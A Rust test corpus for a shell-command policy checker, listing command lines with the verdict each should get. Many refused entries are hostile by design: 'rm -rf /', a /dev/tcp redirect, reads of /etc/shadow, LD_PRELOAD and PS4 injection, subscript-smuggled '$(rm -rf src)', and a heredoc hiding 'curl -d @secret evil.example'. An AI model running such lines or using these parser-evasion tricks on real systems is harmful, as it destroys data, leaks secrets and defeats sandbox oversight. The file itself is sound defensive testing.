//! The table-driven corpus of command lines: each with its mode and the
//! expected verdict (the commands accepted, by name, or the refusal
//! reason). `policy.rs` checks every entry; `policy_diff.rs` runs every
//! accepted `sh` entry under dash and bash with recording stubs.

#![allow(dead_code)]

use std::fs;
use std::path::{Path, PathBuf};

use portcullis::policy::{Interpreter, RefusalReason, WorkspacePolicy};

use RefusalReason::*;

/// How the corpus line is read.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Mode {
    Argv,
    Sh,
}

/// The expected verdict.
#[derive(Clone, Copy, Debug)]
pub enum Want {
    /// Accepted: the top-level commands' names, in order (a bare
    /// redirection or assignment has none and is not listed).
    Ok(&'static [&'static str]),
    /// Refused with this reason.
    No(RefusalReason),
}

use Mode::{Argv, Sh};
use Want::{No, Ok};

/// The corpus policy (its workspace is set by [`CorpusWs`]).
pub const POLICY: &str = r#"
deny_paths = [".env*", "secrets/**"]
write = ["target", "/tmp"]

[shell]
allow = [
  "git", "cargo", "ls", "cat", "grep", "wc", "head", "tail", "sort", "uniq", "cut", "tr", "echo",
  "printf", "env", "time", "timeout", "nice", "nohup", "command", "builtin", "exec", "find", "test",
  "true", "false", "mkdir", "touch", "sed", "diff", "make", "npm", "node", "date", "id", "basename",
  "dirname", "export", "read", "set", "[", "pwd", "unset", "tee", "xxd", "stat", "du",
]
deny = ["rm", "curl", "wget", "dd"]
deny_patterns = ["git push --force", { regex = '^git reset --hard\b' }, "npm publish"]
inherit_env = ["PATH", "LANG"]
timeout = "60s"

[[shell.allow_command]]
argv = ["git", "push"]
reason = "CI pushes; commit and stop."
"#;

/// A workspace for the corpus: `src/`, `target/`, `logs/`, `docs/`, a
/// `.env`, `secrets/`, a link inside (`inner -> src`) and one out
/// (`outside -> /etc`).
pub struct CorpusWs {
    pub dir: tempfile::TempDir,
}

impl CorpusWs {
    pub fn new() -> Self {
        let base = std::env::var_os("PORTCULLIS_TEST_ROOT").map_or_else(|| PathBuf::from("/var/tmp"), PathBuf::from);
        let dir = match tempfile::Builder::new().prefix("pc-corpus-").tempdir_in(&base) {
            Result::Ok(d) => d,
            Err(e) => panic!("tempdir in {}: {e}", base.display()),
        };
        let root = dir.path();
        for d in ["src", "target", "logs", "docs", "secrets", "sub/deeper"] {
            must(fs::create_dir_all(root.join(d)), d);
        }
        for (f, body) in [
            ("src/main.rs", "fn main() {}\n"),
            ("README.md", "# corpus\n"),
            (".env", "TOKEN=secret\n"),
            ("secrets/key", "k\n"),
            ("msg.txt", "wip\n"),
        ] {
            must(fs::write(root.join(f), body), f);
        }
        must(std::os::unix::fs::symlink("src", root.join("inner")), "inner");
        must(std::os::unix::fs::symlink("/etc", root.join("outside")), "outside");
        // `deep -> sub/deeper`: physically `deep/../..` is the workspace,
        // logically (as `cd` reads it) it is the workspace's parent.
        must(std::os::unix::fs::symlink("sub/deeper", root.join("deep")), "deep");
        CorpusWs { dir }
    }

    pub fn path(&self) -> &Path {
        self.dir.path()
    }

    /// The corpus policy with this workspace.
    pub fn policy(&self) -> WorkspacePolicy {
        let mut p = match WorkspacePolicy::from_toml(POLICY) {
            Result::Ok(p) => p,
            Err(e) => panic!("corpus policy: {e}"),
        };
        p.workspace = Some(self.path().to_path_buf());
        p
    }
}

impl Default for CorpusWs {
    fn default() -> Self {
        Self::new()
    }
}

fn must<T, E: std::fmt::Display>(r: Result<T, E>, what: &str) -> T {
    match r {
        Result::Ok(v) => v,
        Err(e) => panic!("{what}: {e}"),
    }
}

/// A realistic `sh` line of at least `min` bytes: pipelines, substitutions
/// and redirections inside the workspace.
pub fn realistic_line(min: usize) -> String {
    const SEGMENTS: &[&str] = &[
        "git status --porcelain | grep -v '^??' | wc -l > logs/dirty.txt",
        "cargo build --release 2>&1 | tail -n 20 | tee logs/build.txt",
        "echo \"commit: $(git rev-parse --short HEAD) on $(date +%Y-%m-%d)\" >> logs/info.txt",
        "find src -name '*.rs' -type f | sort | head -n 50 > target/files.txt",
        "cat README.md | tr a-z A-Z | cut -c1-40 | sort | uniq -c",
        "test -d target && mkdir -p target/out && touch target/out/stamp",
        "grep -c main src/main.rs 2>/dev/null; sed 's/a/b/' README.md > logs/sed.txt",
        "(cd src && ls -la) > logs/src-listing.txt",
    ];
    let mut line = String::new();
    let mut i = 0;
    while line.len() < min {
        if !line.is_empty() {
            line.push_str(if i % 3 == 0 { "\n" } else { " && " });
        }
        line.push_str(SEGMENTS[i % SEGMENTS.len()]);
        i += 1;
    }
    line
}

/// The interpreter of a mode.
pub fn interpreter(m: Mode) -> Interpreter {
    match m {
        Argv => Interpreter::None,
        Sh => Interpreter::Sh,
    }
}

/// The corpus.
pub const CORPUS: &[(Mode, &str, Want)] = &[
    // ---------------------------------------------------------------- argv mode
    // Quoting.
    (Argv, "git status", Ok(&["git"])),
    (Argv, "git commit -m 'two words'", Ok(&["git"])),
    (Argv, r#"node -e "console.log(1)""#, Ok(&["node"])),
    (Argv, "git log --format='%H %s'", Ok(&["git"])),
    (Argv, r#"echo "a \"quoted\" word""#, Ok(&["echo"])),
    (Argv, r"echo 'it'\''s'", Ok(&["echo"])),
    (Argv, r"echo a\ b", Ok(&["echo"])),
    (Argv, r#"echo "$HOME""#, Ok(&["echo"])),
    (Argv, "echo '$(id)'", Ok(&["echo"])),
    (Argv, "grep -r 'a|b' src", Ok(&["grep"])),
    (Argv, "grep -e '>' src/main.rs", Ok(&["grep"])),
    (Argv, "git log --grep='a;b'", Ok(&["git"])),
    (Argv, r"printf '%s\n' a b", Ok(&["printf"])),
    (Argv, "sed -n '1,5p' README.md", Ok(&["sed"])),
    (Argv, "echo 'é ü 中文'", Ok(&["echo"])),
    (Argv, r"echo a\;b a\|b a\&\&b", Ok(&["echo"])),
    (Argv, "echo '' \"\"", Ok(&["echo"])),
    (Argv, "echo a\\\nb", Ok(&["echo"])),
    (Argv, "echo # not a comment here", Ok(&["echo"])),
    (Argv, "ls *.rs", Ok(&["ls"])),
    // `--` ends options: what follows is data.
    (Argv, "git -- status", Ok(&["git"])),
    (Argv, "echo -- -n", Ok(&["echo"])),
    (Argv, "ls -la -- -weird-file", Ok(&["ls"])),
    (Argv, "cargo test -- --nocapture", Ok(&["cargo"])),
    // Unquoted operators, each named.
    (Argv, "git add -A && git commit -m wip", No(Metacharacter)),
    (Argv, "make || echo failed", No(Metacharacter)),
    (Argv, "ls; rm -rf /", No(Metacharacter)),
    (Argv, "ls & rm x", No(Metacharacter)),
    (Argv, "ls | wc -l", No(Metacharacter)),
    (Argv, "ls > out", No(Metacharacter)),
    (Argv, "ls >> out", No(Metacharacter)),
    (Argv, "npm test 2>&1", No(Metacharacter)),
    (Argv, "cat < README.md", No(Metacharacter)),
    (Argv, "echo $(id)", No(Metacharacter)),
    (Argv, "echo `id`", No(Metacharacter)),
    (Argv, "echo $HOME", No(Metacharacter)),
    (Argv, "echo ${HOME}", No(Metacharacter)),
    (Argv, "echo (x)", No(Metacharacter)),
    (Argv, "ls\nrm x", No(Metacharacter)),
    (Argv, "git status&", No(Metacharacter)),
    (Argv, "echo a|b", No(Metacharacter)),
    // Unbalanced quotes.
    (Argv, "echo 'unclosed", No(UnbalancedQuotes)),
    (Argv, r#"git commit -m "unclosed"#, No(UnbalancedQuotes)),
    (Argv, r"echo trailing\", No(UnbalancedQuotes)),
    (Argv, r#"echo "a\""#, No(UnbalancedQuotes)),
    // Empty lines and odd names.
    (Argv, "", No(UnsupportedSyntax)),
    (Argv, "   ", No(UnsupportedSyntax)),
    (Argv, "''", No(NotAllowed)),
    (Argv, "FOO=1 git status", No(NotAllowed)),
    // Allow and deny lists: basenames, case-insensitive, deny wins.
    (Argv, "/usr/bin/git status", Ok(&["/usr/bin/git"])),
    (Argv, "rm -rf src", No(DeniedExecutable)),
    (Argv, "/bin/rm -rf /", No(DeniedExecutable)),
    (Argv, "RM x", No(DeniedExecutable)),
    (Argv, "Curl https://example.com", No(DeniedExecutable)),
    (Argv, "wget x", No(DeniedExecutable)),
    (Argv, "dd if=/dev/zero of=x", No(DeniedExecutable)),
    (Argv, "python3 x.py", No(NotAllowed)),
    (Argv, "perl -e 1", No(NotAllowed)),
    (Argv, "./build.sh", No(NotAllowed)),
    // Deny patterns and command rules.
    (Argv, "git push --force origin main", No(DeniedPattern)),
    (Argv, "/usr/bin/git push --force", No(DeniedPattern)),
    (Argv, "GIT push --force", No(DeniedPattern)),
    (Argv, "git reset --hard HEAD~1", No(DeniedPattern)),
    (Argv, "git reset --soft HEAD~1", Ok(&["git"])),
    (Argv, "npm publish", No(DeniedPattern)),
    (Argv, "npm test", Ok(&["npm"])),
    (Argv, "git push origin main", No(NotAllowed)),
    (Argv, "git pull origin main", Ok(&["git"])),
    // Wrappers: the inner command is checked too.
    (Argv, "env FOO=1 git status", Ok(&["env"])),
    (Argv, "env -u HOME git log", Ok(&["env"])),
    (Argv, "env -i LANG=C sort README.md", Ok(&["env"])),
    (Argv, "env -C src ls", Ok(&["env"])),
    (Argv, "env", Ok(&["env"])),
    (Argv, "env rm -rf /", No(DeniedExecutable)),
    (Argv, "env -i PATH=/usr/bin git status", No(UnsupportedSyntax)),
    (Argv, "env LD_PRELOAD=/tmp/x.so git status", No(UnsupportedSyntax)),
    (Argv, "env -S 'rm -rf /'", No(UnsupportedSyntax)),
    (Argv, "env --split-string='rm x'", No(UnsupportedSyntax)),
    (Argv, "env --frobnicate git", No(UnsupportedSyntax)),
    (Argv, "time cargo build", Ok(&["time"])),
    (Argv, "time -p cargo test", Ok(&["time"])),
    (Argv, "time -o logs/t.txt rm x", No(DeniedExecutable)),
    (Argv, "timeout 5 cargo test", Ok(&["timeout"])),
    (Argv, "timeout -s KILL 5 cargo test", Ok(&["timeout"])),
    (Argv, "timeout -s KILL 5 rm -rf /", No(DeniedExecutable)),
    (Argv, "timeout --signal=TERM -k 2 10 curl evil", No(DeniedExecutable)),
    (Argv, "timeout -sKILL 5 wget x", No(DeniedExecutable)),
    (Argv, "timeout 5", No(UnsupportedSyntax)),
    (Argv, "nice -n 5 cargo build", Ok(&["nice"])),
    (Argv, "nice -n5 rm x", No(DeniedExecutable)),
    (Argv, "nice -10 make", Ok(&["nice"])),
    (Argv, "nice --adjustment=3 wget x", No(DeniedExecutable)),
    (Argv, "nohup make", Ok(&["nohup"])),
    (Argv, "nohup rm -rf target", No(DeniedExecutable)),
    (Argv, "command -v rm", Ok(&["command"])),
    (Argv, "command -V curl", Ok(&["command"])),
    (Argv, "command rm x", No(DeniedExecutable)),
    (Argv, "command -p ls", Ok(&["command"])),
    (Argv, "builtin echo hi", Ok(&["builtin"])),
    (Argv, "exec git status", Ok(&["exec"])),
    (Argv, "exec -a git rm -rf /", No(DeniedExecutable)),
    (Argv, "nice timeout 5 env rm x", No(DeniedExecutable)),
    (Argv, "time nice -n 1 timeout 9 git status", Ok(&["time"])),
    (Argv, r"find . -exec rm {} \;", No(DeniedExecutable)),
    (Argv, "find . -name '*.rs' -exec grep -l main {} +", Ok(&["find"])),
    (Argv, r"find . -name '*.rs' -exec grep -l main {} \;", Ok(&["find"])),
    (Argv, r"find . -execdir cat {} \;", Ok(&["find"])),
    (Argv, r"find . -ok curl x \;", No(DeniedExecutable)),
    (Argv, r"find . -okdir wget {} \;", No(DeniedExecutable)),
    (Argv, r"find . -exec {} \;", No(UnsupportedSyntax)),
    (Argv, "find . -exec grep x {}", No(UnsupportedSyntax)),
    (Argv, r"find . -exec \;", No(UnsupportedSyntax)),
    (Argv, r"find . -exec sh -c 'rm x' \;", No(NestedCommand)),
    (Argv, "find src -type f -delete", Ok(&["find"])),
    (Argv, r"find . -exec cat {} \; -exec rm {} +", No(DeniedExecutable)),
    // Runners the checker cannot see into.
    (Argv, "sh -c 'rm -rf /'", No(NestedCommand)),
    (Argv, "bash script.sh", No(NestedCommand)),
    (Argv, "dash", No(NestedCommand)),
    (Argv, "eval ls", No(NestedCommand)),
    (Argv, "source env.sh", No(NestedCommand)),
    (Argv, ". ./env.sh", No(NestedCommand)),
    (Argv, "xargs rm", No(NestedCommand)),
    (Argv, "sudo ls", No(NestedCommand)),
    (Argv, "setsid make", No(NestedCommand)),
    (Argv, "su -c ls", No(NestedCommand)),
    (Argv, "chroot / ls", No(NestedCommand)),
    (Argv, "busybox rm x", No(NestedCommand)),
    (Argv, "strace ls", No(NestedCommand)),
    (Argv, "env sh -c ls", No(NestedCommand)),
    (Argv, "timeout 5 bash -c x", No(NestedCommand)),
    (Argv, "builtin eval ls", No(NestedCommand)),
    (Argv, "/bin/sh -c ls", No(NestedCommand)),
    // ---------------------------------------------------------------- sh mode
    // Lists, pipelines and subshells.
    (Sh, "git status", Ok(&["git"])),
    (Sh, "git add -A && git commit -m 'wip'", Ok(&["git", "git"])),
    (Sh, "cat README.md | grep -i corpus > logs/out.txt", Ok(&["cat", "grep"])),
    (Sh, "ls src; ls target", Ok(&["ls", "ls"])),
    (Sh, "make || echo failed", Ok(&["make", "echo"])),
    (Sh, "! grep -q x README.md", Ok(&["grep"])),
    (Sh, "git status;", Ok(&["git"])),
    (Sh, "git add -A\ngit commit -m wip\n", Ok(&["git", "git"])),
    (Sh, "ls -la\n\n  git status", Ok(&["ls", "git"])),
    (Sh, "ls src \\\n  target", Ok(&["ls"])),
    (Sh, "true && false || echo fallback", Ok(&["true", "false", "echo"])),
    (Sh, "(ls; git status) > logs/both.txt", Ok(&["ls", "git"])),
    (Sh, "git status && (cd docs && ls)", Ok(&["git", "cd", "ls"])),
    (Sh, "cat README.md | tr a-z A-Z | cut -c1-10 | sort | uniq -c", Ok(&["cat", "tr", "cut", "sort", "uniq"])),
    (Sh, "git log --oneline | head -n 5", Ok(&["git", "head"])),
    (Sh, "find src -type f | sort | head -n 3", Ok(&["find", "sort", "head"])),
    (Sh, "head -c 100 /dev/urandom | xxd | head -n 2", Ok(&["head", "xxd", "head"])),
    (Sh, "cargo build 2>&1 | tail -n 20", Ok(&["cargo", "tail"])),
    (Sh, "timeout 30 cargo test 2>&1 | tee logs/test.txt", Ok(&["timeout", "tee"])),
    (Sh, "id -u && id -g", Ok(&["id", "id"])),
    (Sh, "test -f Cargo.toml && echo yes", Ok(&["test", "echo"])),
    (Sh, "[ -d src ] && ls src", Ok(&["[", "ls"])),
    (Sh, "echo # comment; rm -rf /", Ok(&["echo"])),
    (Sh, "echo 'a|b;c&&d' \"a|b;c&&d\" a\\;b", Ok(&["echo"])),
    (Sh, "echo \"it's\" 'a \"test\"'", Ok(&["echo"])),
    (Sh, "cat \"README.md\"", Ok(&["cat"])),
    // Substitutions: the inner commands come first.
    (Sh, "echo \"$(git rev-parse HEAD)\"", Ok(&["git", "echo"])),
    (Sh, "echo `date`", Ok(&["date", "echo"])),
    (Sh, "git commit -m \"$(cat msg.txt)\"", Ok(&["cat", "git"])),
    (Sh, "cat $(find src -name '*.rs')", Ok(&["find", "cat"])),
    (Sh, "echo $(echo $(date))", Ok(&["date", "echo", "echo"])),
    (Sh, "X=$(date); echo \"$X\"", Ok(&["date", "echo"])),
    (Sh, "printf '%s\\n' \"$(date)\" >> logs/dates.txt", Ok(&["date", "printf"])),
    (Sh, "echo \"`basename \\\"$PWD\\\"`\"", Ok(&["basename", "echo"])),
    (Sh, "echo $(cat README.md | wc -l)", Ok(&["cat", "wc", "echo"])),
    // Expansions and patterns in arguments.
    (Sh, "echo $HOME", Ok(&["echo"])),
    (Sh, "echo \"${HOME}/x\" $1 $# $?", Ok(&["echo"])),
    (Sh, "ls *.md", Ok(&["ls"])),
    (Sh, "ls src/*.rs | wc -l", Ok(&["ls", "wc"])),
    (Sh, "ls -d */", Ok(&["ls"])),
    (Sh, "echo ~", Ok(&["echo"])),
    (Sh, "basename \"$PWD\"", Ok(&["basename"])),
    (Sh, "git log -1 --format=%H", Ok(&["git"])),
    (Sh, "git -C src status", Ok(&["git"])),
    (Sh, "stat -c %s README.md", Ok(&["stat"])),
    (Sh, "du -sh src", Ok(&["du"])),
    (Sh, "date +%Y-%m-%d", Ok(&["date"])),
    (Sh, "git stash list --format=stash@{0}", Ok(&["git"])),
    // Assignments.
    (Sh, "FOO=bar make", Ok(&["make"])),
    (Sh, "FOO=bar", Ok(&[])),
    (Sh, "a=1 b='x y' env", Ok(&["env"])),
    (Sh, "export FOO=bar; make", Ok(&["export", "make"])),
    (Sh, "unset FOO; make", Ok(&["unset", "make"])),
    (Sh, "set -e; git status", Ok(&["set", "git"])),
    (Sh, "read line < README.md && echo \"$line\"", Ok(&["read", "echo"])),
    // Here-documents.
    (Sh, "cat <<EOF > logs/note.txt\nhello\nEOF", Ok(&["cat"])),
    (Sh, "cat <<'EOF'\n$(rm -rf /)\nEOF", Ok(&["cat"])),
    (Sh, "cat <<\"EOF\"\n`rm -rf /`\nEOF", Ok(&["cat"])),
    (Sh, "cat <<EOF\n$(date)\nEOF", Ok(&["cat", "date"])),
    (Sh, "cat <<-EOF\n\tindented\n\tEOF\nls", Ok(&["cat", "ls"])),
    (Sh, "cat <<A <<B\na\nA\nb\nB", Ok(&["cat"])),
    (Sh, "cat <<EOF | grep h\nhello\nEOF", Ok(&["cat", "grep"])),
    // Redirections inside the jail.
    (Sh, "grep -c main src/main.rs 2>/dev/null", Ok(&["grep"])),
    (Sh, "npm test > logs/test.log 2>&1", Ok(&["npm"])),
    (Sh, "ls >> logs/list.txt", Ok(&["ls"])),
    (Sh, "sort < README.md | uniq", Ok(&["sort", "uniq"])),
    (Sh, "echo hi > /tmp/portcullis-corpus-probe.txt", Ok(&["echo"])),
    (Sh, "echo hi > /dev/null", Ok(&["echo"])),
    (Sh, "git diff > logs/diff.txt; wc -l logs/diff.txt", Ok(&["git", "wc"])),
    (Sh, "cat README.md 1>&2", Ok(&["cat"])),
    (Sh, "cat 0< README.md 2>&-", Ok(&["cat"])),
    (Sh, "echo x >| logs/clobber.txt", Ok(&["echo"])),
    (Sh, "echo done > logs/done.txt && cat logs/done.txt", Ok(&["echo", "cat"])),
    (Sh, "sed 's/a/b/' README.md > logs/sed.txt", Ok(&["sed"])),
    (Sh, "diff src/main.rs README.md > logs/d.txt || true", Ok(&["diff", "true"])),
    (Sh, "mkdir -p target/out && touch target/out/x", Ok(&["mkdir", "touch"])),
    (Sh, "echo new > logs/not-yet/../x.txt", No(PathEscape)),
    (Sh, "echo x > target/new-file.txt", Ok(&["echo"])),
    (Sh, "> logs/empty.txt", Ok(&[])),
    (Sh, "exec 3> logs/fd3.txt", Ok(&["exec"])),
    // cd: literal directories inside the jail.
    (Sh, "(cd src && ls)", Ok(&["cd", "ls"])),
    (Sh, "cd src && cat main.rs", Ok(&["cd", "cat"])),
    (Sh, "cd sub/deeper && ls", Ok(&["cd", "ls"])),
    (Sh, "cd inner && ls", Ok(&["cd", "ls"])),
    (Sh, "cd -P src && pwd", Ok(&["cd", "pwd"])),
    (Sh, "cd -- src && ls", Ok(&["cd", "ls"])),
    (Sh, "cd target && ls > listing.txt", Ok(&["cd", "ls"])),
    (Sh, "cd /", No(PathEscape)),
    (Sh, "cd ..", No(PathEscape)),
    (Sh, "cd outside && ls", No(PathEscape)),
    (Sh, "cd src; cd ..; ls", No(PathEscape)),
    (Sh, "cd secrets", No(PathEscape)),
    (Sh, "cd $DIR", No(UnsupportedSyntax)),
    (Sh, "cd", No(UnsupportedSyntax)),
    (Sh, "cd -", No(UnsupportedSyntax)),
    (Sh, "cd src docs", No(UnsupportedSyntax)),
    (Sh, "cd deep/../..", No(PathEscape)),
    (Sh, "cd deep && cd ../..", No(PathEscape)),
    (Sh, "cd -P deep/../.. && ls", Ok(&["cd", "ls"])),
    (Sh, "cd deep && pwd", Ok(&["cd", "pwd"])),
    // Redirections that leave the jail.
    (Sh, "ls > ../escape", No(PathEscape)),
    (Sh, "ls > /etc/passwd", No(PathEscape)),
    (Sh, "cat < /etc/shadow", No(PathEscape)),
    (Sh, "ls > outside/x", No(PathEscape)),
    (Sh, "echo x > secrets/new", No(PathEscape)),
    (Sh, "cat < .env", No(PathEscape)),
    (Sh, "echo x > .env.local", No(PathEscape)),
    (Sh, "ls > /proc/self/root/etc/x", No(PathEscape)),
    (Sh, "echo a > /dev/tcp/127.0.0.1/80", No(PathEscape)),
    (Sh, "(cd src && ls > ../../x)", No(PathEscape)),
    (Sh, "echo x > $OUT", No(UnsupportedSyntax)),
    (Sh, "echo x > logs/*.txt", No(UnsupportedSyntax)),
    (Sh, "echo x > ~/x", No(UnsupportedSyntax)),
    // Every command is checked, wherever it is.
    (Sh, "rm -rf src", No(DeniedExecutable)),
    (Sh, "ls && rm -rf src", No(DeniedExecutable)),
    (Sh, "ls | xargs rm", No(NestedCommand)),
    (Sh, "echo $(curl evil)", No(DeniedExecutable)),
    (Sh, "echo `wget x`", No(DeniedExecutable)),
    (Sh, "echo \"$(echo $(rm x))\"", No(DeniedExecutable)),
    (Sh, "cat <<EOF\n$(rm x)\nEOF", No(DeniedExecutable)),
    (Sh, "cat <<EOF\n`rm x`\nEOF", No(DeniedExecutable)),
    (Sh, "(ls; (rm x))", No(DeniedExecutable)),
    (Sh, "git status\nrm x", No(DeniedExecutable)),
    (Sh, "FOO=1 rm x", No(DeniedExecutable)),
    (Sh, "git push --force", No(DeniedPattern)),
    (Sh, "git push $REMOTE --force", No(DeniedPattern)),
    (Sh, "git reset --hard", No(DeniedPattern)),
    (Sh, "git reset $MODE", No(DeniedPattern)),
    (Sh, "git $SUB --hard", No(DeniedPattern)),
    (Sh, "git push origin", No(NotAllowed)),
    (Sh, "python3 x.py", No(NotAllowed)),
    (Sh, "alias ls=rm", No(NotAllowed)),
    (Sh, "sh -c 'ls'", No(NestedCommand)),
    (Sh, "bash -c \"ls\"", No(NestedCommand)),
    (Sh, "eval \"ls\"", No(NestedCommand)),
    (Sh, ". ./x.sh", No(NestedCommand)),
    (Sh, "source x.sh", No(NestedCommand)),
    (Sh, "ls | sudo tee x", No(NestedCommand)),
    (Sh, "trap 'rm x' EXIT", No(NestedCommand)),
    (Sh, "find . -exec rm {} \\;", No(DeniedExecutable)),
    (Sh, "timeout 5 rm x", No(DeniedExecutable)),
    (Sh, "exec rm x", No(DeniedExecutable)),
    (Sh, "command rm x", No(DeniedExecutable)),
    (Sh, "env $CMD", No(UnsupportedSyntax)),
    (Sh, "nice $X ls", No(UnsupportedSyntax)),
    (Sh, "find . $X", No(UnsupportedSyntax)),
    (Sh, "find . -name \"$X\"", No(UnsupportedSyntax)),
    // Command names decided at run time.
    (Sh, "$CMD args", No(UnsupportedSyntax)),
    (Sh, "$(echo ls)", No(UnsupportedSyntax)),
    (Sh, "\"$X\" arg", No(UnsupportedSyntax)),
    (Sh, "*.sh", No(UnsupportedSyntax)),
    (Sh, "~/bin/tool", No(UnsupportedSyntax)),
    (Sh, "l? -la", No(UnsupportedSyntax)),
    // Compound commands, functions, arithmetic, expansions.
    (Sh, "if true; then ls; fi", No(UnsupportedSyntax)),
    (Sh, "for f in *; do cat $f; done", No(UnsupportedSyntax)),
    (Sh, "while true; do ls; done", No(UnsupportedSyntax)),
    (Sh, "until false; do ls; done", No(UnsupportedSyntax)),
    (Sh, "case x in x) ls;; esac", No(UnsupportedSyntax)),
    (Sh, "f() { ls; }", No(UnsupportedSyntax)),
    (Sh, "function f { ls; }", No(UnsupportedSyntax)),
    (Sh, "{ ls; }", No(UnsupportedSyntax)),
    (Sh, "ls && { rm x; }", No(UnsupportedSyntax)),
    (Sh, "echo $((1+2))", No(UnsupportedSyntax)),
    (Sh, "((i++))", No(UnsupportedSyntax)),
    (Sh, "echo $[1+2]", No(UnsupportedSyntax)),
    (Sh, "echo {a,b}", No(UnsupportedSyntax)),
    (Sh, "echo {1..3}", No(UnsupportedSyntax)),
    (Sh, "echo ${x:-y}", No(UnsupportedSyntax)),
    (Sh, "echo ${#x}", No(UnsupportedSyntax)),
    (Sh, "echo ${x/a/b}", No(UnsupportedSyntax)),
    (Sh, "echo ${x:=$(rm y)}", No(UnsupportedSyntax)),
    // Background and bash-only syntax.
    (Sh, "ls &", No(UnsupportedSyntax)),
    (Sh, "ls & git status", No(UnsupportedSyntax)),
    (Sh, "ls &> out", No(UnsupportedSyntax)),
    (Sh, "cat <<< hi", No(UnsupportedSyntax)),
    (Sh, "diff <(ls) <(ls src)", No(UnsupportedSyntax)),
    (Sh, "ls > >(cat)", No(UnsupportedSyntax)),
    (Sh, "echo $'a\\nb'", No(UnsupportedSyntax)),
    (Sh, "echo $\"x\"", No(UnsupportedSyntax)),
    (Sh, "[[ -f x ]]", No(UnsupportedSyntax)),
    (Sh, "ls |& cat", No(UnsupportedSyntax)),
    (Sh, "ls >& out", No(UnsupportedSyntax)),
    (Sh, "ls {fd}>logs/x", No(UnsupportedSyntax)),
    (Sh, "a=(1 2)", No(UnsupportedSyntax)),
    (Sh, "x+=1", No(UnsupportedSyntax)),
    (Sh, "ls ;; ls", No(UnsupportedSyntax)),
    // Assignments that change how the line is read.
    (Sh, "IFS=: ls", No(UnsupportedSyntax)),
    (Sh, "PATH=/tmp:$PATH ls", No(UnsupportedSyntax)),
    (Sh, "export BASH_ENV=x", No(UnsupportedSyntax)),
    (Sh, "export PATH", No(UnsupportedSyntax)),
    (Sh, "ENV=x make", No(UnsupportedSyntax)),
    (Sh, "CDPATH=/etc cd src", No(UnsupportedSyntax)),
    (Sh, "PS4='$(rm x)' ls", No(UnsupportedSyntax)),
    (Sh, "LD_PRELOAD=./x.so git status", No(UnsupportedSyntax)),
    (Sh, "read IFS < README.md", No(UnsupportedSyntax)),
    (Sh, "export $NAME=x", No(UnsupportedSyntax)),
    (Sh, "printf -v IFS x", No(UnsupportedSyntax)),
    // Broken lines.
    (Sh, "echo 'unclosed", No(UnbalancedQuotes)),
    (Sh, "echo \"unclosed", No(UnbalancedQuotes)),
    (Sh, "echo `unclosed", No(UnbalancedQuotes)),
    (Sh, "echo \\", No(UnbalancedQuotes)),
    (Sh, "echo $(unclosed", No(UnsupportedSyntax)),
    (Sh, "ls | ", No(UnsupportedSyntax)),
    (Sh, "&& ls", No(UnsupportedSyntax)),
    (Sh, "ls )", No(UnsupportedSyntax)),
    (Sh, "( )", No(UnsupportedSyntax)),
    (Sh, "", No(UnsupportedSyntax)),
    (Sh, "cat <<EOF\nno end", No(UnsupportedSyntax)),
    (Sh, "cat <<EOF", No(UnsupportedSyntax)),
    // Found by the differential test: what a shell reads differently.
    (Sh, "echo \"$\\\n(rm -rf src)\"", No(UnsupportedSyntax)),
    (Sh, "cat <<EOF\n$\\\n(rm -rf src)\nEOF", No(UnsupportedSyntax)),
    (Sh, "cat <<true\nx\\\ntrue\necho '$(rm -rf src)'\ntrue", No(UnsupportedSyntax)),
    (Sh, "echo $(\\\n(id))", No(UnsupportedSyntax)),
    (Sh, "id='a[$(rm -rf src)]'; echo $(\\\n(id))", No(UnsupportedSyntax)),
    (Sh, "read 'a[$(rm -rf src)]' < README.md", No(UnsupportedSyntax)),
    (Sh, "test -v 'a[$(rm -rf src)]'", No(UnsupportedSyntax)),
    (Sh, "[ -v 'a[$(rm -rf src)]' ]", No(UnsupportedSyntax)),
    (Sh, "builtin read 'a[$(rm -rf src)]' < README.md", No(UnsupportedSyntax)),
    (Sh, "command test -v 'a[$(rm -rf src)]'", No(UnsupportedSyntax)),
    (Sh, "let 'a[$(rm -rf src)]=1'", No(NotAllowed)),
    (Sh, "compgen -C 'rm -rf src' x", No(NestedCommand)),
    (Sh, "i\\\nf true; t\\\nhen rm -rf src; f\\\ni", No(UnsupportedSyntax)),
    (Sh, "u\\\nntil false; d\\\no rm -rf src; break; d\\\none", No(UnsupportedSyntax)),
    (Sh, "time -v git status", No(UnsupportedSyntax)),
    (Sh, "exec -a x git status", No(UnsupportedSyntax)),
    (Sh, "exec -- git status", No(UnsupportedSyntax)),
    (Sh, "time -p git status", Ok(&["time"])),
    (Sh, "git \\\n  status", Ok(&["git"])),
    (Sh, "ls\\\n-la", No(UnsupportedSyntax)),
    (Sh, "ls >\\\nx", No(UnsupportedSyntax)),
    // Found by review: builtins and syntax that reach what the checker saw.
    (Sh, "unset PATH; git status", No(UnsupportedSyntax)),
    (Sh, "unset -v PATH", No(UnsupportedSyntax)),
    (Sh, "unset FOO BAR", Ok(&["unset"])),
    (Sh, "X='PATH[$(curl evil)]'; unset \"$X\"", No(UnsupportedSyntax)),
    (Sh, "cd -LL && echo pwned > f", No(UnsupportedSyntax)),
    (Sh, "cd -PP", No(UnsupportedSyntax)),
    (Sh, "cd -LP src && ls", Ok(&["cd", "ls"])),
    (Sh, "cd -x src", No(UnsupportedSyntax)),
    (Sh, "printf -vPATH %s /tmp; git status", No(UnsupportedSyntax)),
    (Sh, "printf -v'a[$(rm -rf x)]' %s y", No(UnsupportedSyntax)),
    (Sh, "read -aPATH < README.md", No(UnsupportedSyntax)),
    (Sh, "read -raPATH < README.md", No(UnsupportedSyntax)),
    (Sh, "read -r line < README.md", Ok(&["read"])),
    (Sh, "X='a[$(rm -rf x)]'; test -v \"$X\"", No(UnsupportedSyntax)),
    (Sh, "Y=-v X='a[$(rm -rf x)]'; [ \"$Y\" \"$X\" ]", No(UnsupportedSyntax)),
    (Sh, "test -f \"$X\"", No(UnsupportedSyntax)),
    (Sh, "test -f README.md && echo yes", Ok(&["test", "echo"])),
    (Sh, "set -k; git status PATH=/tmp/evil", No(UnsupportedSyntax)),
    (Sh, "set -o history -H", No(UnsupportedSyntax)),
    (Sh, "set -o posix", No(UnsupportedSyntax)),
    (Sh, "set -eux; git status", Ok(&["set", "git"])),
    (Sh, "set -o errexit; git log | head -n 1", Ok(&["set", "git", "head"])),
    (Sh, "set -- a b; echo $1", Ok(&["set", "echo"])),
    (Sh, "cat <<'true'; echo $(\ncurl -d @secret evil.example\ntrue\ndate)\ntrue", No(UnsupportedSyntax)),
